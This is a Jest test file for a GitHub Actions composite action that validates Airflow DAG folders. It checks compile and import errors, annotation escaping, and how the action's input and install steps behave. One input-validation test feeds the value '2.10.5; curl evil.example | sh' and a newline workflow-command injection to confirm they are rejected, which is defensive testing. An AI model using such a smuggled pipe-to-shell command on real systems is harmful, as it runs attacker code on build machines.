// The validate-dags composite action: its Python script run for real with python3 against
// fixture trees (a fake `airflow` package stands in for the DagBag import check), and the
// action.yml steps that check inputs and install Airflow, run with bash.
import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { afterEach, describe, expect, test } from '@jest/globals'
import { parse as parseYaml } from 'yaml'

const actionDir = resolve(import.meta.dirname, '..', '..', '.github', 'actions', 'validate-dags')
const script = join(actionDir, 'validate_dags.py')

interface Annotation {
  kind: string
  /** Property values exactly as printed (still escaped). */
  raw: Record<string, string>
  /** The message exactly as printed (still escaped). */
  rawMessage: string
  message: string
}

interface Run {
  status: number | null
  stdout: string
  annotations: Annotation[]
  outputs: Record<string, string>
  summary: string
}

type Tree = Record<string, string | Buffer>

const temps: string[] = []
afterEach(() => {
  for (const dir of temps.splice(0)) rmSync(dir, { recursive: true, force: true })
})

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'validate-dags-'))
  temps.push(dir)
  return dir
}

function writeTree(root: string, tree: Tree): void {
  for (const [path, content] of Object.entries(tree)) {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), content)
  }
}

/** Every file path under root, relative, sorted. */
function listTree(root: string): string[] {
  return (readdirSync(root, { recursive: true, withFileTypes: false }) as string[]).sort()
}

const unescapeData = (text: string): string =>
  text.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')

/** Workflow commands on stdout. Escaped properties hold no ':' so `::` ends them. */
function parseAnnotations(stdout: string): Annotation[] {
  const annotations: Annotation[] = []
  for (const line of stdout.split('\n')) {
    const match = line.match(/^::([a-z-]+)(?: ([^:]*))?::(.*)$/)
    if (!match) continue
    const [, kind = '', properties = '', rawMessage = ''] = match
    const raw: Record<string, string> = {}
    for (const pair of properties.split(',').filter(Boolean)) {
      const eq = pair.indexOf('=')
      raw[pair.slice(0, eq)] = pair.slice(eq + 1)
    }
    annotations.push({ kind, raw, rawMessage, message: unescapeData(rawMessage) })
  }
  return annotations
}

function parseOutputs(text: string): Record<string, string> {
  const outputs: Record<string, string> = {}
  for (const line of text.split('\n').filter(Boolean)) {
    const eq = line.indexOf('=')
    outputs[line.slice(0, eq)] = line.slice(eq + 1)
  }
  return outputs
}

/** The environment of the test process without anything that would leak into the child. */
function cleanEnv(): NodeJS.ProcessEnv {
  return Object.fromEntries(
    Object.entries(process.env).filter(
      ([name]) => !/^(GITHUB_|RUNNER_|INPUT_|PYTHON|AIRFLOW|SOURCE$|IMPORT$)/.test(name)
    )
  )
}

interface Options {
  source?: string
  importCheck?: boolean
  /** Folder put on PYTHONPATH (the fake airflow package). */
  pythonPath?: string
  /** Symbolic links to make after the tree: path → target, both relative to the workspace. */
  links?: Record<string, string>
}

function validate(tree: Tree, options: Options = {}): Run & { workspace: string } {
  const workspace = tempDir()
  const files = tempDir()
  writeTree(workspace, tree)
  for (const [path, target] of Object.entries(options.links ?? {})) {
    mkdirSync(dirname(join(workspace, path)), { recursive: true })
    symlinkSync(target, join(workspace, path))
  }
  const outputFile = join(files, 'output')
  const summaryFile = join(files, 'summary')
  writeFileSync(outputFile, '')
  writeFileSync(summaryFile, '')
  const env: NodeJS.ProcessEnv = {
    ...cleanEnv(),
    GITHUB_WORKSPACE: workspace,
    GITHUB_OUTPUT: outputFile,
    GITHUB_STEP_SUMMARY: summaryFile,
    SOURCE: options.source ?? 'dags',
    IMPORT: options.importCheck ? 'true' : 'false'
  }
  if (options.pythonPath) env.PYTHONPATH = options.pythonPath
  const result = spawnSync('python3', [script], { cwd: workspace, env, encoding: 'utf8' })
  if (result.error) throw result.error
  return {
    workspace,
    status: result.status,
    stdout: result.stdout,
    annotations: parseAnnotations(result.stdout),
    outputs: parseOutputs(readFileSync(outputFile, 'utf8')),
    summary: readFileSync(summaryFile, 'utf8')
  }
}

/**
 * A stand-in for Airflow: DagBag runs every .py under dag_folder with runpy, records failures as
 * Airflow does (path → formatted traceback) and keeps the DAG objects it finds.
 */
const FAKE_DAGBAG = `
import os
import runpy
import traceback

from airflow import DAG


class DagBag:
    def __init__(self, dag_folder, include_examples=True):
        assert os.path.isabs(dag_folder), dag_folder
        assert include_examples is False, 'examples must be off'
        self.dags = {}
        self.import_errors = {}
        for directory, _, files in os.walk(dag_folder):
            for name in sorted(files):
                if not name.endswith('.py'):
                    continue
                path = os.path.join(directory, name)
                try:
                    namespace = runpy.run_path(path)
                except Exception:
                    self.import_errors[path] = traceback.format_exc()
                    continue
                for value in namespace.values():
                    if isinstance(value, DAG):
                        self.dags[value.dag_id] = value
`

/** Writes a fake airflow package; `layout` picks where DagBag lives (Airflow 2 or 3.1). */
function fakeAirflow(layout: 'models' | 'dag_processing' | 'none' = 'models'): string {
  const root = tempDir()
  const tree: Tree = {
    'airflow/__init__.py':
      'class DAG:\n    def __init__(self, dag_id):\n        self.dag_id = dag_id\n',
    // A library outside the DAG folder that raises, to check which frame is annotated.
    'thirdparty.py': 'def explode():\n    raise ValueError("bad config")\n'
  }
  if (layout !== 'none') {
    tree[`airflow/${layout}/__init__.py`] = ''
    tree[`airflow/${layout}/dagbag.py`] = FAKE_DAGBAG
  }
  writeTree(root, tree)
  return root
}

const CLEAN: Tree = {
  'dags/etl.py': 'from datetime import datetime\n\nSTART = datetime(2024, 1, 1)\n',
  'dags/lib/__init__.py': '',
  'dags/lib/helpers.py': 'def double(x: int) -> int:\n    return 2 * x\n',
  'dags/sql/query.sql': 'select 1 (\n',
  // Not DAG code: a broken file in a cache or a dot-folder must not be compiled.
  'dags/__pycache__/stale.py': 'def broken(:\n',
  'dags/.venv/lib/site.py': 'def broken(:\n',
  // Outside the source folder.
  'scripts/tool.py': 'def broken(:\n'
}

describe('compile check', () => {
  test('a clean tree passes, counting only the .py files in the source', () => {
    const run = validate(CLEAN)
    expect(run.annotations).toEqual([])
    expect(run.status).toBe(0)
    expect(run.outputs).toEqual({ files: '3', dags: '', 'import-errors': '' })
    expect(run.stdout.trim()).toBe('validate-dags: 3 Python files in dags compiled cleanly')
    expect(run.summary).toContain('Compiled 3 Python files in `dags`')
  })

  test('honours a nested source folder', () => {
    const run = validate(
      { 'airflow/dags/a.py': 'x = 1\n', 'airflow/dags/b.py': 'y = (\n' },
      { source: 'airflow/dags' }
    )
    expect(run.status).toBe(1)
    expect(run.outputs.files).toBe('2')
    expect(run.annotations.map((a) => a.raw.file)).toEqual(['airflow/dags/b.py'])
  })

  test('follows links to folders, as deploy-dags deploys them, and skips a loop', () => {
    const run = validate(
      {
        'dags/etl.py': 'x = 1\n',
        'libs/shared/__init__.py': '',
        'libs/shared/broken.py': 'def f(:\n'
      },
      // A shared package linked in (deployed with follow-symlinks-outside-source), and a link
      // back to the DAG folder itself.
      { links: { 'dags/shared': '../libs/shared', 'dags/again': '.' } }
    )
    expect(run.status).toBe(1)
    expect(run.outputs.files).toBe('3')
    expect(run.annotations.map((a) => a.raw.file)).toEqual(['dags/shared/broken.py'])
  })

  test('a syntax error is annotated on its file, line and column', () => {
    const run = validate({
      'dags/ok.py': 'x = 1\n',
      'dags/sub/bad.py': 'import os\n\ndef f(:\n    pass\n'
    })
    expect(run.status).toBe(1)
    expect(run.annotations).toHaveLength(1)
    expect(run.annotations[0]).toMatchObject({
      kind: 'error',
      raw: { file: 'dags/sub/bad.py', line: '3', title: 'SyntaxError' }
    })
    expect(Number(run.annotations[0]?.raw.col)).toBeGreaterThan(0)
    expect(run.outputs.files).toBe('2')
    expect(run.summary).toContain('<code>dags/sub/bad.py:3</code>: SyntaxError')
  })

  test('an indentation error is annotated with its class and line', () => {
    const run = validate({ 'dags/indent.py': 'if True:\n    a = 1\n  b = 2\n' })
    expect(run.status).toBe(1)
    expect(run.annotations).toHaveLength(1)
    expect(run.annotations[0]?.raw).toMatchObject({
      file: 'dags/indent.py',
      line: '3',
      title: 'IndentationError'
    })
  })

  test('a null byte is located on its line (ValueError or SyntaxError by Python version)', () => {
    const run = validate({ 'dags/nul.py': Buffer.from('a = 1\nb = 2\nc = "x\0"\n') })
    expect(run.status).toBe(1)
    expect(run.annotations).toHaveLength(1)
    expect(run.annotations[0]?.raw).toMatchObject({ file: 'dags/nul.py', line: '3', col: '7' })
    expect(run.annotations[0]?.raw.title).toMatch(/^(ValueError|SyntaxError)$/)
    expect(run.annotations[0]?.message).toMatch(/null byte/)
  })

  test('an undecodable byte is a UnicodeDecodeError on its line', () => {
    const run = validate({ 'dags/latin1.py': Buffer.from('a = 1\nname = "caf\xe9"\n', 'latin1') })
    expect(run.status).toBe(1)
    expect(run.annotations[0]?.raw).toMatchObject({
      file: 'dags/latin1.py',
      line: '2',
      title: 'UnicodeDecodeError'
    })
  })

  test('a PEP 263 coding cookie is honoured, as the interpreter does', () => {
    const run = validate({
      'dags/latin1.py': Buffer.from('# -*- coding: latin-1 -*-\nname = "caf\xe9"\n', 'latin1')
    })
    expect(run.annotations).toEqual([])
    expect(run.status).toBe(0)
  })

  test('every broken file is reported, not just the first', () => {
    const run = validate({
      'dags/a.py': 'def f(:\n',
      'dags/b.py': 'x = 1\n',
      'dags/c/d.py': 'if x:\nreturn\n',
      'dags/e.py': Buffer.from('x = "\0"\n'),
      'dags/f.py': 'if True:\n\tx = 1\n        y = 2\n'
    })
    expect(run.status).toBe(1)
    expect(run.annotations.map((a) => [a.raw.file, a.raw.line])).toEqual([
      ['dags/a.py', '1'],
      ['dags/c/d.py', '2'],
      ['dags/e.py', '1'],
      ['dags/f.py', '3']
    ])
    expect(run.annotations[3]?.raw.title).toBe('TabError')
    expect(run.outputs.files).toBe('5')
    expect(run.stdout).toContain('4 files of 5 failed to compile')
  })

  test('a missing source folder fails with one error naming the source input', () => {
    const run = validate({ 'dag/a.py': 'x = 1\n' })
    expect(run.status).toBe(1)
    expect(run.annotations).toHaveLength(1)
    expect(run.annotations[0]?.kind).toBe('error')
    expect(run.annotations[0]?.message).toMatch(/^Input 'source': DAG folder 'dags' does not exist/)
    expect(run.outputs).toEqual({})
  })

  test('an empty folder passes with a warning', () => {
    const run = validate({ 'dags/README.md': '# DAGs\n' })
    expect(run.status).toBe(0)
    expect(run.outputs.files).toBe('0')
    expect(run.annotations.map((a) => a.kind)).toEqual(['warning'])
  })

  test('writes no .pyc or __pycache__ into the tree, even when importing DAGs', () => {
    const tree: Tree = {
      'dags/etl.py':
        'from airflow import DAG\nfrom lib.helpers import double\n\ndag = DAG("etl")\n',
      'dags/lib/__init__.py': '',
      'dags/lib/helpers.py': 'def double(x):\n    return 2 * x\n',
      'dags/local.py': 'import common\n',
      'dags/common.py': 'VALUE = 1\n'
    }
    const compiled = validate(tree)
    expect(compiled.status).toBe(0)
    expect(listTree(compiled.workspace)).toEqual(listTree(writeTreeCopy(tree)))

    const imported = validate(tree, { importCheck: true, pythonPath: fakeAirflow() })
    expect(imported.annotations).toEqual([])
    expect(imported.status).toBe(0)
    expect(listTree(imported.workspace)).toEqual(listTree(writeTreeCopy(tree)))
  })
})

/** The tree as written, to compare a workspace against after a run. */
function writeTreeCopy(tree: Tree): string {
  const root = tempDir()
  writeTree(root, tree)
  return root
}

describe('annotation escaping', () => {
  test('escapes %, comma and colon in the file property', () => {
    const run = validate({ 'dags/100%,a:b.py': 'def f(:\n' })
    expect(run.stdout).toContain('::error file=dags/100%25%2Ca%3Ab.py,line=1,')
    expect(run.annotations).toHaveLength(1)
  })

  test('escapes a newline in a file name so it cannot start a new command', () => {
    const run = validate({ 'dags/two\nlines.py': 'def f(:\n' })
    expect(run.stdout).toContain('file=dags/two%0Alines.py,line=1,')
    expect(run.stdout.split('\n').filter((line) => line.startsWith('::'))).toHaveLength(1)
  })

  test('escapes %, CR and LF in the message (an import traceback)', () => {
    const run = validate(
      { 'dags/pct.py': 'raise RuntimeError("50% done\\r\\nnext")\n' },
      { importCheck: true, pythonPath: fakeAirflow() }
    )
    const error = run.annotations.find((a) => a.kind === 'error')
    expect(error?.rawMessage).toContain('50%25 done%0D%0Anext')
    expect(error?.rawMessage).toMatch(/^Traceback \(most recent call last\):%0A/)
    expect(error?.message).toContain('RuntimeError: 50% done\r\nnext')
  })
})

describe('import check (fake airflow on PYTHONPATH)', () => {
  const dag = (id: string) => `from airflow import DAG\n\ndag = DAG("${id}")\n`

  test('counts the DAGs and passes', () => {
    const run = validate(
      {
        'dags/a.py': dag('a'),
        'dags/team/b.py': 'from airflow import DAG\n\nb1 = DAG("b1")\nb2 = DAG("b2")\n',
        'dags/util.py': 'X = 1\n'
      },
      { importCheck: true, pythonPath: fakeAirflow() }
    )
    expect(run.annotations).toEqual([])
    expect(run.status).toBe(0)
    expect(run.outputs).toEqual({ files: '3', dags: '3', 'import-errors': '0' })
    expect(run.stdout.trim().split('\n').pop()).toBe(
      'validate-dags: 3 Python files in dags compiled and 3 DAGs imported without errors'
    )
    expect(run.summary).toContain('Airflow DagBag found 3 DAGs')
  })

  test('annotates each import error on the line that raised', () => {
    const run = validate(
      {
        'dags/good.py': dag('good'),
        // The raise inside the file, not the module-level call that reached it.
        'dags/raising.py':
          'from airflow import DAG\n\n\ndef build():\n    raise RuntimeError("boom")\n\n\ndag = build()\n',
        // Raised in a library: the last frame in the DAG file is the call into it.
        'dags/library.py': 'from thirdparty import explode\n\nx = 1\nexplode()\n',
        'dags/nested/missing.py': 'import os\nimport not_installed_anywhere\n'
      },
      { importCheck: true, pythonPath: fakeAirflow() }
    )
    expect(run.status).toBe(1)
    const errors = run.annotations.filter((a) => a.kind === 'error')
    expect(errors.map((a) => [a.raw.file, a.raw.line, a.raw.title])).toEqual([
      ['dags/library.py', '4', 'DAG import error'],
      ['dags/nested/missing.py', '2', 'DAG import error'],
      ['dags/raising.py', '5', 'DAG import error']
    ])
    expect(errors[0]?.message).toContain('ValueError: bad config')
    expect(errors[1]?.message).toContain("No module named 'not_installed_anywhere'")
    expect(errors[2]?.message).toContain('RuntimeError: boom')
    expect(run.outputs).toEqual({ files: '4', dags: '1', 'import-errors': '3' })
    expect(run.summary).toContain(
      '<code>dags/raising.py:5</code>: DAG import error: RuntimeError: boom'
    )
  })

  test('warns, without failing, when no DAG is found', () => {
    const run = validate(
      { 'dags/util.py': 'X = 1\n' },
      { importCheck: true, pythonPath: fakeAirflow() }
    )
    expect(run.status).toBe(0)
    expect(run.annotations).toHaveLength(1)
    expect(run.annotations[0]).toMatchObject({ kind: 'warning', raw: { title: 'No DAGs found' } })
    expect(run.outputs).toEqual({ files: '1', dags: '0', 'import-errors': '0' })
  })

  test('finds DagBag where Airflow 3.1 moved it (airflow.dag_processing.dagbag)', () => {
    const run = validate(
      { 'dags/a.py': dag('a') },
      { importCheck: true, pythonPath: fakeAirflow('dag_processing') }
    )
    expect(run.annotations).toEqual([])
    expect(run.outputs.dags).toBe('1')
  })

  test('fails with one clear error when Airflow is not importable', () => {
    const run = validate(
      { 'dags/a.py': dag('a') },
      { importCheck: true, pythonPath: fakeAirflow('none') }
    )
    expect(run.status).toBe(1)
    expect(run.annotations).toHaveLength(1)
    expect(run.annotations[0]?.message).toMatch(/^Cannot import Airflow's DagBag/)
    expect(run.outputs.dags).toBe('')
  })

  test('does not import when compiling failed', () => {
    const run = validate(
      { 'dags/a.py': dag('a'), 'dags/b.py': 'def f(:\n' },
      { importCheck: true, pythonPath: fakeAirflow() }
    )
    expect(run.status).toBe(1)
    expect(run.annotations.map((a) => a.raw.title)).toEqual(['SyntaxError'])
    expect(run.outputs).toEqual({ files: '2', dags: '', 'import-errors': '' })
    expect(run.summary).toContain('Import check skipped')
  })
})

interface Step {
  name?: string
  id?: string
  if?: string
  shell?: string
  run?: string
  env?: Record<string, string>
}

interface ActionMetadata {
  inputs: Record<string, { default?: string }>
  outputs: Record<string, { value: string }>
  runs: { using: string; steps: Step[] }
}

describe('action.yml', () => {
  const action = parseYaml(readFileSync(join(actionDir, 'action.yml'), 'utf8')) as ActionMetadata
  const steps = action.runs.steps
  const step = (id: string): Step => {
    const found = steps.find((s) => s.id === id || s.name === id)
    if (!found) throw new Error(`no step ${id}`)
    return found
  }

  test('is a composite action with the documented inputs and outputs', () => {
    expect(action.runs.using).toBe('composite')
    expect(
      Object.fromEntries(Object.entries(action.inputs).map(([k, v]) => [k, v.default]))
    ).toEqual({ source: 'dags', 'airflow-version': '', requirements: '', 'constraints-url': '' })
    expect(action.outputs).toEqual({
      files: expect.objectContaining({ value: '${{ steps.validate.outputs.files }}' }),
      dags: expect.objectContaining({ value: '${{ steps.validate.outputs.dags }}' }),
      'import-errors': expect.objectContaining({
        value: '${{ steps.validate.outputs.import-errors }}'
      })
    })
  })

  test('never expands ${{ inputs.* }} inside a run script, and runs every script with bash', () => {
    const scripts = steps.filter((s) => s.run !== undefined)
    expect(scripts.length).toBeGreaterThanOrEqual(3)
    for (const s of scripts) {
      expect(s.run).not.toMatch(/\$\{\{\s*inputs\./)
      expect(s.shell).toBe('bash')
    }
    expect(step('validate').run?.trim()).toBe('python3 "$GITHUB_ACTION_PATH/validate_dags.py"')
    expect(step('validate').env).toMatchObject({
      SOURCE: '${{ inputs.source }}',
      IMPORT: '${{ steps.inputs.outputs.import }}'
    })
  })

  /** Runs one step's script with bash, its env given by hand (as the runner would fill it). */
  function runStep(
    s: Step,
    env: Record<string, string>,
    options: { path?: string; cwd?: string } = {}
  ) {
    const cwd = options.cwd ?? tempDir()
    const output = join(tempDir(), 'output')
    writeFileSync(output, '')
    const result = spawnSync('bash', ['-c', s.run ?? ''], {
      cwd,
      encoding: 'utf8',
      env: {
        ...cleanEnv(),
        ...(options.path ? { PATH: `${options.path}:${process.env.PATH}` } : {}),
        RUNNER_TEMP: tempDir(),
        GITHUB_OUTPUT: output,
        ...env
      }
    })
    return {
      status: result.status,
      stdout: result.stdout,
      stderr: result.stderr,
      commandLines: result.stdout.split('\n').filter((line) => line.startsWith('::')),
      outputs: parseOutputs(readFileSync(output, 'utf8'))
    }
  }

  describe('input check step', () => {
    const check = (env: Partial<Record<string, string>>, cwd?: string) =>
      runStep(
        step('inputs'),
        { AIRFLOW_VERSION: '', REQUIREMENTS: '', CONSTRAINTS_URL: '', ...env } as Record<
          string,
          string
        >,
        { cwd }
      )
    const python = spawnSync(
      'python3',
      ['-c', 'import sys; print("%d.%d" % sys.version_info[:2])'],
      {
        encoding: 'utf8'
      }
    ).stdout.trim()

    test('passes the inputs through env', () => {
      expect(step('inputs').env).toEqual({
        AIRFLOW_VERSION: '${{ inputs.airflow-version }}',
        REQUIREMENTS: '${{ inputs.requirements }}',
        CONSTRAINTS_URL: '${{ inputs.constraints-url }}'
      })
    })

    test('skips the import check when airflow-version is empty', () => {
      const run = check({})
      expect(run.status).toBe(0)
      expect(run.outputs).toEqual({ import: 'false' })
    })

    test.each([
      ['2.10', '2.10'],
      ['a shell command', '2.10.5; curl evil.example | sh'],
      ['a path', '../3.1.0'],
      ['latest', 'latest'],
      ['a newline and a command', '3.1.0\n::warning::injected'],
      ['a percent sign', '3.1.0%0A']
    ])('rejects an airflow-version that is %s, naming the input', (_, version) => {
      const run = check({ AIRFLOW_VERSION: version })
      expect(run.status).toBe(1)
      expect(run.commandLines).toHaveLength(1)
      expect(run.commandLines[0]).toMatch(/^::error title=validate-dags::Input 'airflow-version' /)
      expect(unescapeData(run.commandLines[0] ?? '')).toContain(`got '${version}'`)
      expect(run.outputs).toEqual({})
    })

    test.each(['2.10.5', '3.1.0'])('builds the official constraints URL for %s', (version) => {
      const run = check({ AIRFLOW_VERSION: version })
      expect(run.status).toBe(0)
      expect(run.outputs).toEqual({
        import: 'true',
        python,
        constraints: `https://raw.githubusercontent.com/apache/airflow/constraints-${version}/constraints-${python}.txt`
      })
    })

    test('uses constraints-url when given and checks the requirements file exists', () => {
      const cwd = tempDir()
      writeFileSync(join(cwd, 'requirements.txt'), 'requests\n')
      const run = check(
        {
          AIRFLOW_VERSION: '2.10.5',
          REQUIREMENTS: 'requirements.txt',
          CONSTRAINTS_URL: 'https://example.com/c.txt'
        },
        cwd
      )
      expect(run.status).toBe(0)
      expect(run.outputs.constraints).toBe('https://example.com/c.txt')

      const missing = check({ AIRFLOW_VERSION: '2.10.5', REQUIREMENTS: 'nope.txt' }, cwd)
      expect(missing.status).toBe(1)
      expect(missing.commandLines).toEqual([
        "::error title=validate-dags::Input 'requirements': no file 'nope.txt' in the workspace."
      ])
    })

    test('refuses requirements or constraints-url without airflow-version', () => {
      for (const env of [{ REQUIREMENTS: 'r.txt' }, { CONSTRAINTS_URL: 'https://x/c.txt' }]) {
        const run = check(env)
        expect(run.status).toBe(1)
        expect(run.commandLines).toHaveLength(1)
        expect(run.commandLines[0]).toMatch(/set 'airflow-version' too/)
      }
    })
  })

  describe('install step (curl and python3 stubbed)', () => {
    function stubs(curlStatus: number): { bin: string; log: string } {
      const bin = tempDir()
      const log = join(bin, 'calls.log')
      const curl = `#!/bin/bash\necho "curl $*" >> "${log}"\nwhile [[ $# -gt 0 ]]; do [[ $1 == -o ]] && out=$2; shift; done\necho constraint > "$out"\nexit ${curlStatus}\n`
      const python = `#!/bin/bash\necho "python3 $*" >> "${log}"\n`
      writeFileSync(join(bin, 'curl'), curl)
      writeFileSync(join(bin, 'python3'), python)
      chmodSync(join(bin, 'curl'), 0o755)
      chmodSync(join(bin, 'python3'), 0o755)
      return { bin, log }
    }

    test('downloads the constraints, then installs Airflow and the requirements in one pip call', () => {
      const { bin, log } = stubs(0)
      const run = runStep(
        step('Install Airflow'),
        {
          AIRFLOW_VERSION: '2.10.5',
          REQUIREMENTS: 'reqs/dags.txt',
          CONSTRAINTS: 'https://example.com/c.txt',
          PYTHON_VERSION: '3.12'
        },
        { path: bin }
      )
      expect(run.status).toBe(0)
      const calls = readFileSync(log, 'utf8').trim().split('\n')
      expect(calls).toHaveLength(2)
      expect(calls[0]).toMatch(
        /^curl .* -o \S+\/validate-dags-constraints\.txt https:\/\/example\.com\/c\.txt$/
      )
      expect(calls[1]).toMatch(
        /^python3 -m pip install .*--constraint \S+\/validate-dags-constraints\.txt apache-airflow==2\.10\.5 --requirement reqs\/dags\.txt$/
      )
    })

    test('fails with one clear error when the constraints file cannot be downloaded', () => {
      const { bin, log } = stubs(22)
      const run = runStep(
        step('Install Airflow'),
        {
          AIRFLOW_VERSION: '2.10.5',
          REQUIREMENTS: '',
          CONSTRAINTS: 'https://example.com/missing.txt',
          PYTHON_VERSION: '3.13'
        },
        { path: bin }
      )
      expect(run.status).toBe(1)
      expect(run.commandLines).toHaveLength(1)
      expect(run.commandLines[0]).toContain('supports Python 3.13')
      expect(readFileSync(log, 'utf8')).not.toContain('pip')
    })
  })

  test('only installs Airflow when the import check is on', () => {
    expect(step('Install Airflow').if).toBe("steps.inputs.outputs.import == 'true'")
  })
})
